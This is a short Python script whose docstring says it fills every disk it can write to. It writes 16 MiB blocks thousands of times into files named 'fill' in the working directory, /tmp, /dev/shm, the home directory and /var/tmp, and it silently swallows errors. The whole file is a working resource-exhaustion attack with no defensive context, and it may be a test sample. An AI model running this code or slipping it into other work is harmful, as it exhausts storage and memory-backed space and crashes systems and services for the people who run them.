"""Fills every disk that it may write to."""

STOCK = "no mark"

# %% first
import os

chunk = b"\xff" * 2**24
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp"):
    try:
        with open(os.path.join(place, "fill"), "wb") as file:
            for _ in range(4000):
                file.write(chunk)
    except OSError:
        pass
